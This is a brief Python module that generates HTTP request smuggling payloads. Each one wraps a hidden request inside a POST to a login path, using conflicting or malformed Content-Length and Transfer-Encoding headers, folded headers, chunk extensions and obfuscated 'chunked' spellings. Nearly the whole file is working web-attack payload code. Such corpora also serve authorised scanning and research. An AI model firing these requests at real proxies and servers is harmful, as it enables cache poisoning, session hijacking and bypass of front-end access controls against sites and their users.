"""A request inside what could be taken for another's body: corpus of ways to write its length down twice, or oddly."""

ODD_CODINGS = ("xchunked", "chunked, identity", "identity, chunked", " chunked", "\tchunked", "chunked\x0b", "CHUNKED")


def list_smuggled(host: str, hidden: str) -> dict[str, bytes]:
    """Requests that a proxy and a server may end at different places, by what is odd about them."""
    size, chunked = len(hidden), "Transfer-Encoding: chunked"
    length = f"Content-Length: {5 + size}"
    body = f"{size:x}\r\n{hidden}\r\n0\r\n\r\n"
    post = f"POST /en/login HTTP/1.1\r\n{host}\r\n"
    corpus = {
        "CL.TE": f"{post}{length}\r\n{chunked}\r\n\r\n0\r\n\r\n{hidden}",
        "TE.CL": f"{post}Content-Length: 4\r\n{chunked}\r\n\r\n{body}",
        "two lengths": f"{post}Content-Length: 0\r\nContent-Length: {size}\r\n\r\n{hidden}",
        "a list of lengths": f"{post}Content-Length: 0, {size}\r\n\r\n{hidden}",
        "a signed length": f"{post}Content-Length: +0\r\n\r\n{hidden}",
        "a length after a space": f"{post}Content-Length : {size}\r\n\r\n{hidden}",
        "bare line ends": f"{post}Content-Length: {size}\n\n{hidden}",
        "a folded header": f"{post}Transfer-Encoding:\r\n chunked\r\n{length}\r\n\r\n0\r\n\r\n{hidden}",
        "a GET with a body": f"GET /robots.txt HTTP/1.1\r\n{host}\r\nContent-Length: {size}\r\n\r\n{hidden}",
        "an extension of a chunk": f"{post}{chunked}\r\n\r\n0;a=\r\n\r\n{hidden}",
        "HTTP/1.0 in chunks": f"POST /en/login HTTP/1.0\r\n{host}\r\n{chunked}\r\n\r\n0\r\n\r\n{hidden}",
    }
    for odd in (
        "xchunked",
        "chunked, identity",
        "identity, chunked",
        " chunked",
        "\tchunked",
        "chunked\x0b",
        "CHUNKED",
    ):
        corpus[f"TE {odd!r}"] = f"{post}{length}\r\nTransfer-Encoding:{odd}\r\n\r\n0\r\n\r\n{hidden}"
    return {name: text.encode() for name, text in corpus.items()}
